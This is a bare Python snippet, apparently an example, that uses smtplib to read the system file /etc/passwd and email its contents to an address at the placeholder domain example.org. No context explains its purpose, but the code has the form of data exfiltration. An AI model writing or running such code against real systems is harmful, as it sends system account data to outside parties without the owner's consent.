import smtplib

server = smtplib.SMTP("mail.example.org")
server.sendmail("a@example.org", "b@example.org", open("/etc/passwd").read())
